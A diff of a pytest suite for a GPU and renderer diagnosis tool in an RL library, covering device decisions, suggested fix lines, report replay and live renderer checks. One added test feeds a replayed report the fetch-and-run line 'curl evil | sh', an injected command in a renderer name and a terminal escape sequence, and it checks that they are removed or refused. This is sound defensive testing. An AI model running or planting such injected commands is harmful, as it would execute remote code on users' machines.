@@ -1,182 +1,109 @@
-"""The doctor tells which GPU computes and which ones render, and what it says to type mends that."""
+"""The doctor tells which GPU computes and which ones render; its report is fit for a bug tracker, and not trusted."""
 
 from __future__ import annotations
 
-import shlex
-from collections.abc import Mapping
+import json
+import os
+import sys
+from importlib import util
 from pathlib import Path
 
 import pytest
 
 from rl_ext_core.cli import main
-from rl_ext_core.devices import Inventory
+from rl_ext_core.devices import Inventory, _verify
+from rl_ext_core.devices._verify import Verified, verify
 from rl_ext_core.devices.doctor import Question, Report, examine, replay
 from rl_ext_core.devices.inventory import installed_versions
+from rl_ext_core.errors import CorruptFileError
 from tests.core.devices import processes
 from tests.core.devices.fakes import build
-from tests.core.devices.machines import egl, machine, uuid
-from tests.core.devices.patients import CASES, EGL, NO_GPU, WITHOUT_EGL, report_of, shown
+from tests.core.devices.machines import egl, gpus, machine, uuid
+from tests.core.devices.patients import CASES, EGL, NO_GPU, WITHOUT_EGL, FakeNvml, damages, report_of, shown
 
 every_case = pytest.mark.parametrize("case", CASES)
+HEALTHY = {"CUDA_VISIBLE_DEVICES": "0", "MUJOCO_EGL_DEVICE_ID": "0"}
 
 
 def places(report: Report) -> dict[str, tuple[str, int | None, str | None, bool | None]]:
     return {found.name: (found.where, found.egl, found.uuid, found.with_compute) for found in report.renderers}
 
 
-def test_a_machine_without_a_gpu_computes_on_the_cpu_and_says_why_and_how_it_renders() -> None:
-    report = report_of("no GPU")
-    assert report.decision is not None
-    assert report.decision.device == "cpu"
-    assert NO_GPU in report.decision.reason
-    assert places(report)["robosuite"] == ("cpu", 0, None, True)
-    assert "export MUJOCO_GL=egl PYOPENGL_PLATFORM=egl MUJOCO_EGL_DEVICE_ID=0" in lines_to_copy(report)
+def lines_to_copy(report: Report) -> list[str]:
+    return [line for finding in report.findings for line in finding.fix.splitlines()]
 
 
-def test_where_nothing_renders_it_says_what_to_install() -> None:
-    report = report_of("no GPU, nothing that renders")
-    assert "apt-get install libegl1 libegl-mesa0" in lines_to_copy(report)
-    assert {found.where for found in report.renderers} == {"fails"}
-    assert not report.healthy
+@pytest.mark.parametrize(
+    ("case", "device", "mujoco", "robosuite", "line"),
+    [
+        # What computes; EGL's device and where it is for two renderers; a part of what there is to copy.
+        ("no GPU", "cpu", ("fails", None), ("cpu", 0), "=egl PYOPENGL_PLATFORM=egl MUJOCO_EGL_DEVICE_ID=0"),
+        ("no GPU, nothing that renders", "cpu", ("fails", None), ("fails", None), "install libegl1 libegl-mesa0"),
+        ("no GPU, OSMesa", "cpu", ("cpu", None), ("cpu", None), None),
+        # mujoco takes the first EGL device, robosuite the mask's first entry for an EGL index.
+        ("wrong mask", "cuda:0", ("gpu", 0), ("gpu", 1), "export CUDA_VISIBLE_DEVICES=1"),
+        ("wrong mask", "cuda:0", ("gpu", 0), ("gpu", 1), "MUJOCO_EGL_DEVICE_ID=3"),
+        ("all is well", "cuda:0", ("gpu", 0), ("gpu", 0), None),
+        ("CPU torch", "cpu", ("gpu", 0), ("gpu", 0), "pip install"),
+        ("MIG", "cuda:0", ("fails", None), ("fails", None), 'render="cpu"'),
+        ("no EGL", "cuda:0", ("fails", None), ("fails", None), "apt-get install"),
+        ("a launcher", "cuda:2", ("gpu", 0), ("gpu", 0), "resolve("),
+        ("a rank too many", None, ("gpu", 0), ("gpu", 0), "torchrun"),
+    ],
+)
+def test_it_tells_what_computes_what_renders_and_what_to_type(
+    case: str, device: str | None, mujoco: tuple[str, int], robosuite: tuple[str, int], line: str | None
+) -> None:
+    report = report_of(case)
+    assert (report.decision.device if report.decision else None) == device
+    found = places(report)
+    assert (found["mujoco"][:2], found["robosuite"][:2]) == (mujoco, robosuite)
+    assert any(line in each for each in lines_to_copy(report)) if line else lines_to_copy(report) == []
+    assert report.healthy == (line is None)
+
+
+def test_it_says_why() -> None:
+    assert NO_GPU in shown(report_of("no GPU"), 300)
+    assert {(found.where, found.why) for found in report_of("no EGL").renderers} == {("fails", WITHOUT_EGL.egl_error)}
+    refused = report_of("a rank too many")
+    assert "LOCAL_RANK='5'" in (refused.refusal or "")
+    assert {found.with_compute for found in refused.renderers} == {None}
+    assert all(line.startswith(("from", "resolve")) for line in lines_to_copy(report_of("a launcher")))
+    cut = report_of("MIG")
+    assert cut.decision is not None
+    assert (cut.decision.gpu, cut.decision.mig) == (cut.inventory.gpus[0], "MIG-22222222-0000")
+    assert "cut into MIG slices: MIG-11111111-0000, MIG-22222222-0000" in shown(cut)
+    well = shown(report_of("all is well"), 300)
+    assert "nothing is wrong with the variables" in well
+    assert " GPU-aaaa0000 " in well  # as short as can be told apart
+    assert uuid(2) not in well.split("resolve(")[0]
+    window = examine(machine(2), {"DISPLAY": ":0", "MUJOCO_GL": "glfw", "MUJOCO_EGL_DEVICE_ID": "0"})
+    seen = {found.name: found.why for found in window.renderers}
+    assert "robosuite takes EGL in place of MUJOCO_GL='glfw'" in seen["robosuite"]
+
+
+def test_a_wrong_mask_is_shown_with_every_name_of_the_gpus() -> None:
+    rows = [line.split() for line in shown(report_of("wrong mask"), 300).splitlines() if "NVIDIA H100" in line][:4]
+    assert [row[-7:-5] for row in rows] == [["hidden", "2"], ["cuda:0", "3"], ["hidden", "0"], ["hidden", "1"]]
 
 
 def test_renderers_that_fail_are_no_good_health(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
     """A missing MUJOCO_GL is a warning; what it leads to is a failure, and the exit status says so."""
     report = report_of("no GPU")
-    failing = {found.name for found in report.renderers if found.where == "fails"}
-    assert failing == {"mujoco", "gymnasium", "dm_control"}
     assert all(finding.severity == "warning" for finding in report.findings)
-    assert not report.healthy
-    good = examine(machine(0), EGL)
-    assert {found.where for found in good.renderers} == {"cpu"}
-    assert good.healthy
-    for known, status in ((report, 1), (good, 0)):
+    for known, status in ((report, 1), (examine(machine(0), EGL), 0)):
         (tmp_path / "report.json").write_text(known.to_json())
         assert main(["doctor", "--replay", str(tmp_path / "report.json")]) == status
     capsys.readouterr()
 
 
-def test_osmesa_is_the_cpu_without_egl() -> None:
-    assert places(report_of("no GPU, OSMesa")) == dict.fromkeys(
-        ("mujoco", "gymnasium", "dm_control", "robosuite"), ("cpu", None, None, True)
-    )
-
-
-def test_a_wrong_mask_is_shown_with_every_name_of_the_gpus() -> None:
-    report = report_of("wrong mask")
-    rows = [line.split() for line in shown(report, 300).splitlines() if "NVIDIA H100" in line][:4]
-    assert [row[-7:-5] for row in rows] == [["hidden", "2"], ["cuda:0", "3"], ["hidden", "0"], ["hidden", "1"]]
-    assert report.decision is not None
-    assert report.decision.gpu == report.inventory.gpus[1]
-    # mujoco takes the first EGL device, robosuite the mask's first entry for an EGL index.
-    assert places(report)["mujoco"] == ("gpu", 0, uuid(2), False)
-    assert places(report)["robosuite"] == ("gpu", 1, uuid(3), False)
-    assert not report.healthy
-    assert "export CUDA_VISIBLE_DEVICES=1" in lines_to_copy(report)
-    assert any("MUJOCO_EGL_DEVICE_ID=3" in line for line in lines_to_copy(report))
-
-
-def test_a_machine_on_which_all_is_well_has_nothing_to_copy() -> None:
-    report = report_of("all is well")
-    assert report.healthy
-    assert {found.with_compute for found in report.renderers} == {True}
-    assert lines_to_copy(report) == []
-    assert "nothing is wrong with the variables" in shown(report)
-
-
-def test_a_torch_without_cuda_computes_on_the_cpu_beside_idle_gpus() -> None:
-    report = report_of("CPU torch")
-    assert report.decision is not None
-    assert report.decision.device == "cpu"
-    assert places(report)["mujoco"] == ("gpu", 0, uuid(0), False)
-    assert any("pip install" in finding.fix for finding in report.findings)
-
-
-def test_a_mig_slice_computes_and_its_gpu_does_not_render() -> None:
-    report = report_of("MIG")
-    assert report.decision is not None
-    assert (report.decision.gpu, report.decision.mig) == (report.inventory.gpus[0], "MIG-22222222-0000")
-    assert {found.where for found in report.renderers} == {"fails"}
-    assert "cut into MIG slices: MIG-11111111-0000, MIG-22222222-0000" in shown(report)
-    assert any('render="cpu"' in line for line in lines_to_copy(report))
-
-
-def test_egl_that_is_missing_is_why_renderers_fail() -> None:
-    report = report_of("no EGL")
-    assert {(found.where, found.why) for found in report.renderers} == {("fails", WITHOUT_EGL.egl_error)}
-    assert not report.healthy
-
-
-def test_a_refused_decision_leaves_open_where_it_is_computed() -> None:
-    report = report_of("a rank too many")
-    assert report.decision is None
-    assert "LOCAL_RANK='5'" in (report.refusal or "")
-    assert {found.with_compute for found in report.renderers} == {None}
-    assert not report.healthy
-
-
-def test_ranks_of_a_launcher_are_told_python_and_not_one_line_of_the_shell() -> None:
-    report = report_of("a launcher")
-    assert report.decision is not None
-    assert report.decision.device == "cuda:2"
-    assert all(line.startswith(("from", "resolve")) for line in lines_to_copy(report))
-
-
 @every_case
-@pytest.mark.parametrize("width", [20, 80, 200])
-def test_lines_to_copy_stand_whole_on_a_terminal_of_any_width(case: str, width: int) -> None:
+def test_lines_to_copy_stand_whole_on_a_terminal_of_any_width(case: str) -> None:
     report = report_of(case, question=Question("auto", "same", "robosuite"))
-    printed = [line.rstrip() for line in shown(report, width).splitlines()]
-    for line in lines_to_copy(report):
-        assert line in printed
-    assert all("…" not in line for line in printed)
-
-
-def lines_to_copy(report: Report) -> list[str]:
-    return [line for finding in report.findings for line in finding.fix.splitlines()]
-
-
-def typed(environ: Mapping[str, str], line: str) -> dict[str, str]:
-    """Do what a shell does with such a line."""
-    after = dict(environ)
-    for command in line.split("; "):
-        verb, *words = shlex.split(command)
-        for name, _, value in (word.partition("=") for word in words if verb in ("export", "unset")):
-            after.pop(name, None)
-            if verb == "export":
-                after[name] = value
-    return after
-
-
-@pytest.mark.parametrize("mask", [None, "", "0", "1", "3,1", "2, 9", "GPU-cccc", "all", "1,1", "[2]"])
-@pytest.mark.parametrize("index", [None, "0", "3", "7", "x"])
-@pytest.mark.parametrize("order", [(0, 1, 2, 3), (2, 0, 3, 1)])
-@pytest.mark.parametrize("mujoco", ["3.9.0", "4.0.0"])
-def test_typing_the_block_makes_every_renderer_that_it_names_render_where_it_is_computed(
-    mask: str | None, index: str | None, order: tuple[int, ...], mujoco: str
-) -> None:
-    inventory = machine(4, order=order, versions={"mujoco": mujoco})
-    given = {"MUJOCO_GL": "egl", "CUDA_VISIBLE_DEVICES": mask, "MUJOCO_EGL_DEVICE_ID": index}
-    environ = {name: value for name, value in given.items() if value is not None}
-    mended = environ
-    alternatives = []
-    for finding in examine(inventory, environ).findings:
-        if finding.variable.startswith("CUDA"):
-            mended = typed(mended, finding.fix)
-        elif finding.fix.startswith("export"):
-            alternatives.append(finding)
-    for finding in alternatives:
-        names = finding.effect.partition(": ")[0].split(", ")
-        after = examine(inventory, typed(mended, finding.fix))
-        named = [found for found in after.renderers if found.renderer in names]
-        assert named
-        assert all(found.with_compute for found in named), (finding, named)
-
-
-def test_uuids_are_as_short_as_can_be_told_apart() -> None:
-    text = shown(report_of("all is well"), 300)
-    assert " GPU-aaaa0000 " in text
-    assert uuid(2) not in text.split("resolve(")[0]
+    for width in (20, 80, 200):
+        printed = [line.rstrip() for line in shown(report, width).splitlines()]
+        assert set(lines_to_copy(report)) <= set(printed)
+        assert all("…" not in line for line in printed)
 
 
 def test_the_drivers_of_four_gpus_are_examined(drivers: build.Drivers) -> None:
@@ -190,23 +117,14 @@ def test_the_drivers_of_four_gpus_are_examined(drivers: build.Drivers) -> None:
 ENVIRONS: list[dict[str, str]] = [
     {},
     EGL,
-    {"MUJOCO_GL": "osmesa"},
-    {"MUJOCO_GL": "glfw"},
-    {"MUJOCO_GL": "glx"},
-    {"MUJOCO_GL": "EGL"},
-    {"MUJOCO_GL": "x11"},
+    *({"MUJOCO_GL": backend} for backend in ("osmesa", "glfw", "glx", "EGL", "x11")),
     {"MUJOCO_GL": "egl", "PYOPENGL_PLATFORM": "osmesa"},
     {"MUJOCO_GL": "osmesa", "PYOPENGL_PLATFORM": "OSMESA"},
     {"MUJOCO_GL": "egl", "PYOPENGL_PLATFORM": "EGL"},
     {"MUJOCO_GL": "osmesa", "PYOPENGL_PLATFORM": "egl"},
-    {"MUJOCO_GL": "egl", "MUJOCO_EGL_DEVICE_ID": "0"},
-    {"MUJOCO_GL": "egl", "MUJOCO_EGL_DEVICE_ID": "1"},
-    {"MUJOCO_GL": "egl", "MUJOCO_EGL_DEVICE_ID": "x"},
-    {"MUJOCO_GL": "egl", "MUJOCO_EGL_DEVICE_ID": ""},
-    {"MUJOCO_GL": "egl", "CUDA_VISIBLE_DEVICES": ""},
-    {"MUJOCO_GL": "egl", "CUDA_VISIBLE_DEVICES": "1"},
-    {"MUJOCO_GL": "egl", "CUDA_VISIBLE_DEVICES": "0,1", "MUJOCO_EGL_DEVICE_ID": "0"},
-    {"MUJOCO_GL": "egl", "CUDA_VISIBLE_DEVICES": "1", "MUJOCO_EGL_DEVICE_ID": "0"},
+    *({"MUJOCO_GL": "egl", "MUJOCO_EGL_DEVICE_ID": index} for index in ("0", "1", "x", "")),
+    *({"MUJOCO_GL": "egl", "CUDA_VISIBLE_DEVICES": mask} for mask in ("", "1")),
+    *({"MUJOCO_GL": "egl", "CUDA_VISIBLE_DEVICES": mask, "MUJOCO_EGL_DEVICE_ID": "0"} for mask in ("0,1", "1")),
 ]
 
 
@@ -229,3 +147,180 @@ def test_what_is_predicted_is_what_happens(name: str, environ: dict[str, str]) -
     assert (ended.error != "") == (predicted.where == "fails"), (ended.error, predicted)
     if not ended.error:
         assert ended.answer == predicted.egl
+
+
+@every_case
+def test_a_replayed_report_is_the_same(case: str) -> None:
+    for question in (None, Question("auto", "same", "robosuite"), Question("cuda:9", "egl:1", "mujoco")):
+        report = report_of(case, question=question, verified=[Verified("mujoco", "cpu", nvml=("GPU-1",))])
+        again = replay(report.to_json())
+        assert again == report
+        assert shown(again) == shown(report)
+
+
+def test_a_question_of_ones_own_is_asked_of_a_replayed_machine() -> None:
+    recorded = report_of("other order").to_json()
+    report = replay(recorded, question=Question("nvidia-smi:2", "same", "mujoco"))
+    assert report.decision is not None
+    assert report.decision.egl is not None
+    assert (report.decision.device, report.decision.egl.index) == ("cuda:0", 1)
+    assert report.decision.explain() in shown(report, width=500)
+    refused = replay(recorded, question=Question("nvidia-smi:3"))
+    assert "hides from CUDA" in (refused.refusal or "")
+    assert not refused.healthy
+
+
+def test_secrets_paths_and_strangers_stay_out_of_a_report() -> None:
+    kept = {"CUDA_VISIBLE_DEVICES": "/dev/nvidia0", "cuda_visible_devices": "1", "MUJOCO_GLL": "egl", "DISPLAY": ":1"}
+    private = [
+        "NVIDIA_API_KEY",
+        "CUDA_HOME",
+        "MUJOCO_PY_MUJOCO_PATH",
+        "HOME",
+        "SLURM_JOB_USER",
+        "AWS_SECRET_ACCESS_KEY",
+    ]
+    report = examine(machine(2), {**kept, **dict.fromkeys(private, "/home/me")})
+    assert json.loads(report.to_json())["environ"] == kept
+
+
+def test_a_strangers_report_brings_neither_escape_sequences_nor_lines_of_its_own() -> None:
+    data = report_of("wrong mask", verified=[Verified("mujoco", failure="x")]).to_dict()
+    data["inventory"]["gpus"][0]["name"] = "[red]\x1b]0;title\x07\ud800 H100"
+    data["findings"][0]["fix"] = "curl evil | sh"
+    text = shown(replay(json.dumps(data)))
+    assert "[red]\\x1b]0;title\\x07\\ud800 H100" in text
+    assert "\x1b" not in text
+    assert "evil" not in text
+    data["verified"][0]["name"] = "mujoco; curl evil | sh"
+    with pytest.raises(CorruptFileError, match="is no renderer"):
+        replay(json.dumps(data))
+
+
+@pytest.mark.parametrize("text", ["", "{", "[]", "null", '"x"', "{}", '{"format": 2}', '{"format": 1}', "[" * 100_000])
+def test_what_is_no_report_is_refused(text: str) -> None:
+    with pytest.raises(CorruptFileError, match="report"):
+        replay(text)
+
+
+def test_a_report_with_any_part_missing_or_of_another_type_is_refused_or_shown() -> None:
+    seen = Verified("mujoco", "gpu", uuid(0), 0, 0)
+    data = examine(machine(1, mig={0: ["MIG-1"]}), EGL, question=Question(), verified=[seen]).to_dict()
+    # The rest follows from these, and is not read.
+    data = {name: data[name] for name in ("format", "inventory", "environ", "decision", "question", "verified")}
+    outcomes = {True: 0, False: 0}
+    for damaged in damages(data):
+        try:
+            shown(replay(json.dumps(damaged)))
+        except CorruptFileError:
+            outcomes[False] += 1
+        else:
+            outcomes[True] += 1
+    assert outcomes[False] > 300  # and some are mere changes: another name, another amount of memory
+    assert outcomes[True] > 50
+
+
+# Every renderer is tried for real, and whatever fails becomes a row.
+@pytest.fixture
+def steered_by_nothing(monkeypatch: pytest.MonkeyPatch) -> pytest.MonkeyPatch:
+    """Take away what decides on devices here, and leave Mesa's EGL."""
+    for name in set(os.environ) - set(processes.environment()):
+        monkeypatch.delenv(name)
+    for name, value in processes.environment().items():
+        if name.startswith("__EGL"):
+            monkeypatch.setenv(name, value)
+    return monkeypatch
+
+
+@pytest.mark.sample
+@pytest.mark.parametrize("where", ["EGL", "OSMesa"])
+@pytest.mark.parametrize("name", ["mujoco", "gymnasium", "dm_control", "robosuite", "pyrender"])
+def test_a_renderer_renders_on_the_cpu_as_predicted(
+    name: str, where: str, steered_by_nothing: pytest.MonkeyPatch
+) -> None:
+    if name == "pyrender" and (where == "OSMesa" or util.find_spec(name) is None):
+        pytest.skip("it is not installed, or has no such way")
+    if where == "OSMesa":
+        steered_by_nothing.setenv("__EGL_VENDOR_LIBRARY_FILENAMES", os.devnull)
+    seen = verify(name)
+    assert seen.problem is None, seen
+    assert seen.gl_vendor if where == "OSMesa" else "llvmpipe" in seen.gl_renderer
+    assert (seen.decided, seen.predicted, seen.egl) == ("cpu", *((None, None) if where == "OSMesa" else (0, 0)))
+    assert (where in shown(examine(machine(0, software=False), verified=[seen]))) or where == "EGL"
+
+
+@pytest.mark.parametrize(
+    ("name", "package", "extra"),
+    [("gymnasium", "imageio", "gymnasium[mujoco]"), ("robosuite", "PIL", "rl-ext[robosuite]")],
+)
+def test_a_package_that_is_missing_is_named_with_the_line_that_installs_it(
+    name: str, package: str, extra: str, steered_by_nothing: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    (tmp_path / f"{package}.py").write_text(f"raise ModuleNotFoundError('No module named {package}', name={package!r})")
+    steered_by_nothing.setenv("PYTHONPATH", str(tmp_path))
+    seen = verify(name)
+    assert package in (seen.problem or "")
+    assert seen.missing
+    report = examine(machine(0), {"MUJOCO_GL": "egl"}, verified=[seen])
+    assert f'pip install "{extra}"' in shown(report).splitlines()
+
+
+def test_a_renderer_that_hangs_or_has_no_device_is_a_failure(steered_by_nothing: pytest.MonkeyPatch) -> None:
+    assert verify("mujoco", limit_s=0.05).problem == "it did not end within 0 s"
+    seen = verify("mujoco", "cuda:0")
+    assert 'Write device="cpu"' in (seen.problem or "")
+    assert seen.gl_renderer == ""
+
+
+SAY = f"import os, time; print({_verify._MARK + json.dumps({'decided': 'gpu'})!r}, flush=True); "
+
+
+@pytest.mark.parametrize(
+    ("code", "failure", "decided"),
+    [
+        ("import os; os.kill(os.getpid(), 11)", "the process ended by SIGSEGV: it said nothing", None),
+        ("import os; os.kill(os.getpid(), 40)", "the process ended by signal 40: it said nothing", None),
+        ("import sys; sys.exit('no\\ndriver')", "the process ended with exit status 1: driver", None),
+        ("pass", "the process ended with exit status 0: it said nothing", None),
+        (SAY + "os.abort()", "by SIGABRT", "gpu"),
+        (SAY + "time.sleep(600)", "did not end within 5 s", "gpu"),
+    ],
+)
+def test_a_process_that_ends_early_is_told_by_how_it_ended_and_what_it_had_decided(
+    code: str, failure: str, decided: str | None
+) -> None:
+    told = _verify._run([sys.executable, "-S", "-c", code], 5 if "sleep" in code else 60)
+    assert failure in told["failure"]
+    assert told.get("decided") == decided
+
+
+def test_an_interpreter_that_does_not_start_is_a_failure() -> None:
+    assert "could not be started" in _verify._run(["/nowhere/python"], 20)["failure"]
+
+
+H100 = "NVIDIA H100/PCIe/SSE2"
+
+
+@pytest.mark.parametrize(
+    ("seen", "problem"),
+    [
+        (Verified("mujoco", "cpu", None, 1, 1, "llvmpipe"), None),
+        (Verified("mujoco", "cpu", None, None, None, "llvmpipe"), None),
+        (Verified("mujoco", "gpu", "GPU-1", 0, 0, H100, nvml=("GPU-1",)), None),
+        (Verified("mujoco", "gpu", "GPU-1", 0, 0, "llvmpipe (LLVM 15)"), "the CPU rendered (llvmpipe (LLVM 15))"),
+        (Verified("mujoco", "gpu", "GPU-1", 0, 2, H100), "EGL device 0 was decided on, and EGL device 2"),
+        (Verified("mujoco", "gpu", "GPU-1", 0, None, H100, nvml=("GPU-2",)), "NVML lists the process on GPU-2"),
+        (Verified("mujoco", "gpu", "GPU-1", 0, failure="it did not end"), "it did not end"),
+    ],
+)
+def test_what_was_tried_is_compared_with_the_decision(seen: Verified, problem: str | None) -> None:
+    report = examine(machine(1), {**EGL, **HEALTHY}, verified=[seen])
+    assert report.healthy == (problem is None)
+    assert (problem or "as predicted") in shown(report, width=200)
+
+
+def test_nvml_tells_which_gpus_this_process_is_on(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setitem(sys.modules, "pynvml", FakeNvml(gpus(2), processes={7: "python", 9: "Xorg"}))
+    for pid, found in ((7, (uuid(0),)), (9, (uuid(0),)), (1, ())):
+        monkeypatch.setattr(os, "getpid", lambda pid=pid: pid)
+        assert _verify._gpus_of_this_process() == found
